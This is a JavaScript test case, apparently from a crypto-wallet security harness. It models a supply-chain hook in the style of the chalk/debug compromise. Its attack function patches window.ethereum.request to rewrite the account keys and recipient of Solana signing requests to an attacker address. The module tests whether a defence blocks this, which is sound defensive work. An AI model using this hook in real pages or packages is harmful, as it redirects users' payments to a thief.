// A13, as a hook: the account keys of a Solana transaction sent through window.ethereum become the attacker's.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'A13',
  title: 'Solana transaction object through window.ethereum, by a hook',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({
    version: 1,
    payees: [`${a.chain}:${a.GOOD}`, `solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp:${a.sol.address.GOOD}`],
  }),

  async attack(a) {
    const before = window.ethereum.request;
    window.ethereum.request = async function (call) {
      const copy = JSON.parse(JSON.stringify(call));
      if (/^solana_sign/.test(copy.method)) {
        const tx = copy.params[0].transaction ?? copy.params[0];
        for (const instruction of tx.instructions) {
          for (const account of [...(instruction.accounts ?? []), ...(instruction.keys ?? [])])
            account.pubkey = a.sol.address.EVIL;
        }
        tx.recipient = a.sol.address.EVIL;
      }
      return before.call(this, copy);
    };
    // The page's call stands here, not in the action: a bare transaction object is no wallet's format, so no honest page sends one.
    const transaction = { instructions: [{ keys: [{ pubkey: a.sol.address.GOOD }] }] };
    const call = { method: 'solana_signAndSendTransaction', params: [{ transaction }] };
    return window.ethereum.request(call).catch((error) => error.code);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.sol.address.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: { surface: 'eip1193', grade: 'tamper' },
};
